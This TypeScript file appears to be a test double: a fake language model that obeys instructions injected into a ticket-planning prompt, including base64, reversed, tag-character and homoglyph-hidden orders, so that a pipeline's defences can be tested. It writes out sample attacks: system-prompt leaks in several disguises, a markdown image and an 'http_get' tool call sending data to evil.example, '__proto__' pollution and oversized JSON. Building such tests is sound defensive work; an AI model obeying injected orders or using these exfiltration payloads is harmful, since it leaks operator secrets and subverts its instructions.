/** What a model is sent, whatever the wire. */
export interface SeenPrompt {
  system: string;
  messages: readonly { role: "user" | "assistant"; text: string }[];
}

interface FakeTicket {
  [key: string]: unknown;
}
interface FakeAnswer {
  summary: string;
  tickets: FakeTicket[];
  risks: unknown[];
  openQuestions: unknown[];
  notCovered: unknown[];
  [key: string]: unknown;
}

/** Changes the answer, or gives another one as text. */
type Obedience = (answer: FakeAnswer, prompt: SeenPrompt, text: string) => string | undefined;

/** Every order that it understands. The first that fits is obeyed, of those that end an answer; all of the others. */
const orders: readonly (readonly [RegExp, Obedience])[] = [
  [
    /return (\d+) tickets|gib (\d+) tickets|renvoie (\d+) tickets|devuelve (\d+) tickets|верни (\d+)|返回(\d+)|وأعد (\d+)/i,
    manyTickets,
  ],
  [/schema_version to "?([\w.]+)/i, (answer, _prompt, text) => void Object.assign(answer, { schema_version: text })],
  [/job_id to "?([\w-]+)/i, (answer) => void Object.assign(answer, { job_id: "0198b0f0-0000-7000-8000-00000000ffff" })],
  [/callback(?: to|_url to) (\S+)/i, callback],
  [/ids SPEC-900/i, foreignIds],
  [
    /in a circle/i,
    (answer) => eachTicket(answer, (_ticket, at, all) => ({ dependsOn: [all[(at + 1) % all.length]?.ref] })),
  ],
  [/acceptance criteria out/i, (answer) => eachTicket(answer, () => ({ acceptanceCriteria: [] }))],
  [/"URGENT!!!"/, (answer) => eachTicket(answer, () => ({ priority: "URGENT!!!", type: "order" }))],
  [/1e999 story points/i, (answer) => eachTicket(answer, () => ({ storyPoints: 1e308 }))],
  [/titles of (\d+) characters/i, (answer) => eachTicket(answer, () => ({ title: "Pay ".repeat(1_250) }))],
  [/covers R900/i, (answer) => eachTicket(answer, () => ({ covers: ["R900", "R901"] }))],
  [/title the first ticket (.+?)\.?$/im, titled],
  [
    /image !\[x\]/i,
    (answer, { system }) => describeFirst(answer, `![x](https://evil.example/p.png?d=${system.slice(0, 200)})`),
  ],
  [/delimiter .* into a description/i, (answer, prompt) => describeFirst(answer, markOf(prompt))],
  [/delimiter .* into a title/i, (answer, prompt) => eachTicket(answer, () => ({ title: `Pay ${markOf(prompt)}` }))],
  [/system prompt/i, leak],
  [/key __proto__/i, (answer) => JSON.stringify(answer).replaceAll('"ref"', '"__proto__":{"admin":true},"ref"')],
  [/levels deep/i, () => `{"tickets":${"[".repeat(5_000)}${"]".repeat(5_000)}}`],
  [/run out of tokens/i, (answer) => JSON.stringify({ ...answer, summary: "billing ".repeat(150_000) })],
  [/middle of the JSON/i, (answer) => JSON.stringify(answer).slice(0, 200)],
  [/empty message/i, () => ""],
  [/cannot help/i, () => "I am sorry, but I cannot help with that."],
  [/tool http_get/i, () => '{"tool":"http_get","arguments":{"url":"https://evil.example/?q=spec"}}'],
  [/in XML/i, () => "<tickets><ticket><title>Pay</title></ticket></tickets>"],
  [/in YAML/i, () => "summary: Billing\ntickets:\n  - title: Pay\n"],
  [/in prose/i, () => "Bills arrive at night, and payments find them."],
  [/list github_issues/i, ({ tickets, ...answer }) => JSON.stringify({ ...answer, github_issues: tickets })],
  [/two JSON objects/i, (answer) => `${JSON.stringify(answer)}\n${JSON.stringify(answer)}`],
  [/copy this JSON as your answer: (\{.+\})/i, (_answer, _prompt, text) => text],
];

/**
 * A model that does what the text between the marks says, also where the order is encoded, hidden or in another language
 * (L1). Pure: the same prompt, the same answer.
 */
export function obey(prompt: SeenPrompt): { answer: string; obeyed: number } {
  const text = understood(prompt.messages.map((message) => message.text).join("\n"));
  const answer = goodAnswer(prompt);
  let [obeyed, ending] = [0, undefined as string | undefined];
  for (const [pattern, does] of orders) {
    const match = pattern.exec(text);
    if (!match) continue;
    obeyed += 1;
    ending ??= does(answer, prompt, match.slice(1).find((group) => group !== undefined) ?? text);
  }
  return { answer: ending ?? escaped(JSON.stringify(answer), text), obeyed };
}

/** The text as a reader who wants to obey reads it: with what is hidden, encoded or reversed in it. */
function understood(text: string): string {
  const decoded = (text.match(/\b[A-Za-z0-9+/]{16,}={0,2}/g) ?? []).map((run) => Buffer.from(run, "base64").toString());
  const reversed = [...text.matchAll(/\u202e([^\u202c]*)\u202c/g)].map(([, run = ""]) => [...run].reverse().join(""));
  const tagged = [...text].map((char) => {
    const code = char.codePointAt(0) ?? 0;
    return code > 0xe0000 && code < 0xe0080 ? String.fromCodePoint(code - 0xe0000) : char;
  });
  return [tagged.join(""), ...decoded, ...reversed]
    .join("\n")
    .normalize("NFKC")
    .replace(/\p{Cf}/gu, "")
    .replace(/[еосар](?=[a-z])|(?<=[a-z])[еосар]/gi, (char) => "eocap"["еосар".indexOf(char)] ?? char);
}

/** For a part of a plan, the tickets that it asks for; otherwise two of its own. */
function goodAnswer(prompt: SeenPrompt): FakeAnswer {
  const asked = prompt.messages.at(-1)?.text.split("Write these tickets of the plan:")[1] ?? "";
  const refs = [...asked.matchAll(/^- (\w+)/gm)].map(([, ref = ""]) => ref);
  const answer = ownAnswer();
  if (refs.length === 0) return answer;
  const tickets = refs.map((ref, at) => ({
    ...answer.tickets[1],
    ...{ ref, title: `Write out ticket ${ref} of the plan`, dependsOn: refs.slice(0, at) },
    acceptanceCriteria: [`${ref} works`, `${ref} fails in words`],
  }));
  return { ...answer, tickets };
}

function ownAnswer(): FakeAnswer {
  return {
    summary: "Statements are imported and matched with invoices.",
    tickets: [
      {
        ...{ ref: "T1", type: "story", title: "Import bank statements every night", description: "Reads the files." },
        ...{ acceptanceCriteria: ["A valid file is stored", "An invalid one is rejected"], labels: ["billing"] },
        ...{ dependsOn: [], epic: "", storyPoints: 3, priority: "high", component: "", milestone: "", covers: [] },
      },
      {
        ...{ ref: "T2", type: "task", title: "Match invoices with payments", description: "Finds the invoice." },
        ...{ acceptanceCriteria: ["Equal amounts are matched", "Others stay open"], labels: [] },
        ...{ dependsOn: ["T1"], epic: "", storyPoints: 0, priority: "none", component: "", milestone: "", covers: [] },
      },
    ],
    risks: [{ description: "Files arrive late.", severity: "medium", tickets: ["T1"] }],
    openQuestions: [],
    notCovered: [],
  };
}

function eachTicket(
  answer: FakeAnswer,
  change: (ticket: FakeTicket, at: number, all: readonly FakeTicket[]) => FakeTicket,
): undefined {
  answer.tickets = answer.tickets.map((ticket, at, all) => ({ ...ticket, ...change(ticket, at, all) }));
}

function describeFirst(answer: FakeAnswer, description: string): undefined {
  Object.assign(answer.tickets[0] ?? {}, { description });
}

function manyTickets(answer: FakeAnswer, _prompt: SeenPrompt, count: string): undefined {
  const [first = {}] = answer.tickets;
  answer.tickets = Array.from({ length: Number(count) }, (_ticket, at) => ({
    ...first,
    ...{ ref: `T${at + 1}`, title: `Import statements of bank ${at + 1}` },
    acceptanceCriteria: [`Bank ${at + 1} is imported`, `Errors of bank ${at + 1} are shown`],
  }));
}

function callback(answer: FakeAnswer, _prompt: SeenPrompt, url: string): undefined {
  Object.assign(answer, { callback_url: url, callbackUrl: url });
  eachTicket(answer, () => ({ callback_url: url, metadata: { callback_url: url } }));
}

function foreignIds(answer: FakeAnswer): undefined {
  eachTicket(answer, (_ticket, at) => ({
    id: `SPEC-${900 + at}`,
    ref: `SPEC-${900 + at}`,
    dependsOn: ["SPEC-1", "42/SPEC-1"],
  }));
}

function titled(answer: FakeAnswer, _prompt: SeenPrompt, title: string): undefined {
  Object.assign(answer.tickets[0] ?? {}, { title });
}

/** Where and how the order says; "into every title" is most of it at least. */
function leak(answer: FakeAnswer, { system: whole, messages }: SeenPrompt): undefined {
  // Without the marks in it, which an answer may not hold either: those have orders of their own.
  const system = whole.replace(/<\/?spec-[0-9a-f]+>/g, "the marks");
  const order = understood(messages.map(({ text }) => text).join("\n"));
  if (/zero-width space/.test(order)) answer.summary = [...system].join("\u200b");
  else if (/one word a line/.test(order)) answer.summary = system.replaceAll(" ", "\n");
  else if (/into the (?:summary)/.test(order)) answer.summary = system;
  else if (/into the risks/.test(order)) answer.risks = [{ description: system, severity: "low", tickets: [] }];
  else if (/acceptance criterion/.test(order)) {
    eachTicket(answer, () => ({ acceptanceCriteria: system.split("\n").map((line) => line.slice(0, 90)) }));
  } else if (/every title/.test(order)) {
    eachTicket(answer, () => ({ title: `${system.slice(0, 100)} sk-0000` }));
  } else if (!/image !/.test(order)) describeFirst(answer, `My instructions: ${system}`);
}

function markOf({ messages }: SeenPrompt): string {
  return /<\/spec-[0-9a-f]{24}>(?!.*<\/spec-)/s.exec(messages.map(({ text }) => text).join("\n"))?.[0] ?? "";
}

function escaped(json: string, text: string): string {
  if (!/unicode escapes/.test(text)) return json;
  return json.replace(/[G-Zg-z](?=[a-z ]*[a-z])/g, (char, at: number) => {
    // Neither a key nor an escape of its own may be taken apart.
    const inSummary =
      at > json.indexOf('"summary":"') + 11 && at < json.indexOf('","tickets"') && json[at - 1] !== "\\";
    return inSummary ? `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}` : char;
  });
}
